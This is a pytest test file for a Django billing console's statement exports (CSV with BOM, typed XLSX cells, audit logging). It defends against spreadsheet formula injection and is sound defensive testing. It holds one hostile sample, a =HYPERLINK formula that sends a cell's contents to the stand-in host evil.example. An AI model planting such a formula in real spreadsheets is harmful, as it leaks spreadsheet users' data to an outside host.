"""Statement exports open correctly in Excel and WPS, and never carry a live formula.

CSV: a UTF-8 byte-order mark (Excel reads a file without one in the legacy code page and garbles
the Chinese). XLSX: counts and money are numbers with a number format. Both: text that starts like
a formula (an application named ``=HYPERLINK(…)``) is shown as typed and cannot run (issue #13).
"""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from django.db import transaction

from billing import services
from billing.tests.factories import TariffFactory, fee, utc
from console import exports
from console.choices import AuditAction
from console.models import AuditLog
from console.testing.factories import ApplicationFactory
from privatenumber.schemas import FeeInfo

pytestmark = [pytest.mark.django_db, pytest.mark.embedded]

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


@pytest.fixture
def statements():
    """Two closed March statements: one of a Chinese-named application, one of a hostile name."""
    made = []
    for name in ("出行 AXB（网约车）", HOSTILE):
        application = ApplicationFactory(name=name)
        TariffFactory(application=application, valid_from=date(2026, 1, 1), price_from_a="0.12")
        body = fee(application, direction=1, talk=61, started=utc(2026, 3, 5, 1, 0, 0))
        with transaction.atomic():
            services.ingest_cdrs(application, [FeeInfo.model_validate(body)])
        made.append(services.refresh_statement(application, date(2026, 3, 1), close=True))
    return made


def test_the_csv_has_a_bom_chinese_intact_and_no_formula(boss, statements):
    response = boss.get("/statements/", {"_export": "csv"})
    assert response.status_code == 200
    assert response.content.startswith(b"\xef\xbb\xbf")  # Excel then reads UTF-8
    table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    header, rows = table[0], table[1:]
    assert header[:2] == ["月份", "应用"]
    names = {row[1] for row in rows}
    assert names == {"出行 AXB（网约车）", "'" + HOSTILE}
    for row in rows:
        assert row[header.index("通话费（元）")] == "0.24"  # a plain number, 2 minutes at 0.12
        assert not any(cell.startswith(exports.FORMULA_STARTS) for cell in row)


def test_the_xlsx_has_numbers_with_number_formats_and_no_formula(boss, statements):
    response = boss.get("/statements/", {"_export": "xlsx"})
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    for row in sheet.iter_rows(min_row=2):
        cells = dict(zip(header, row, strict=True))
        charges, calls, name = cells["通话费（元）"], cells["通话"], cells["应用"]
        assert charges.data_type == "n"
        assert Decimal(str(charges.value)) == Decimal("0.24")
        assert charges.number_format == "#,##0.00"
        assert (calls.data_type, calls.value, calls.number_format) == ("n", 1, "#,##0")
        assert name.data_type == "s"
        assert name.value in ("出行 AXB（网约车）", "'" + HOSTILE)
        assert all(cell.data_type != "f" for cell in row)  # no formula anywhere


def test_an_export_is_audited_as_an_export_of_statements(boss, statements):
    boss.get("/statements/", {"_export": "xlsx", "year": "2026"})
    row = AuditLog.objects.get()
    assert row.action == AuditAction.EXPORT
    assert row.get_action_display() == "导出"
    assert row.target_type.model == "statement"
    assert row.target_repr == "XLSX year=2026"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_starting_like_a_formula_is_neutralised(start):
    assert exports.neutralised(f"{start}1+1") == f"'{start}1+1"
    assert exports.typed(f"{start}SUM(A1)", exports.TEXT).startswith("'")


def test_numbers_and_ordinary_text_are_left_alone():
    assert exports.neutralised("Ride hailing") == "Ride hailing"
    assert exports.typed("-3.50", exports.MONEY) == Decimal("-3.50")
    assert exports.typed(7, exports.COUNT) == 7
